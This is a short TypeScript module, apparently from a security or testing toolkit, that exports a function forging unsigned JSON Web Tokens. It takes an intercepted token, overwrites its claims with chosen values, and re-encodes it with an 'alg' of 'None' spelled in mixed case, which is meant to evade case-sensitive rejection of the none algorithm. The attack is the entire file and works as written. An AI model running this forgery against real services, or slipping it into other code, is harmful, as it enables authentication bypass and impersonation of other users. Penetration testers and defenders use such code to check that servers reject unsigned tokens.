import { decodeJson, encodeJson } from '../jwt/json.ts'

/**
 * Forges a token without a signature out of one that was overheard (RFC 7519 §6).
 *
 * @param token a token in compact form
 * @param changes claims to set over those of the token
 * @returns a token whose `alg` says that it has no signature, in a spelling that is not all small letters
 */
export function forgeUnsigned(token: string, changes: Record<string, unknown>): string {
  const [, payload = ''] = token.split('.')
  return `${encodeJson({ alg: 'None', typ: 'JWT' })}.${encodeJson({ ...decodeJson(payload), ...changes })}.`
}
